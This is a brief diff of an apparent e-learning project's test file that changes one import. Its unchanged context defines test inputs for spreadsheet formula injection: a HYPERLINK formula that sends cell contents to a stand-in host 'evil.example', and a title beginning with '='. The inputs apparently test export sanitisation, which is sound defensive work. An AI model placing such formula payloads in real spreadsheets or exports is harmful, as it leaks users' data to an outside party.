@@ -16,7 +16,7 @@ from elearn.models.types import LOCAL_TIME, utcnow
 from elearn.progress.external import record_external, review
 from elearn.reports.export import FORMULA_STARTS
 from elearn.testing import NIPS, login, quiz_file
-from tests.test_quiz_pages import finish
+from tests.courses import finish
 
 NAME = '=HYPERLINK("http://evil.example/?"&A2&B2,"detail")'
 TITLE = "=1+2 Kursus Jahat"
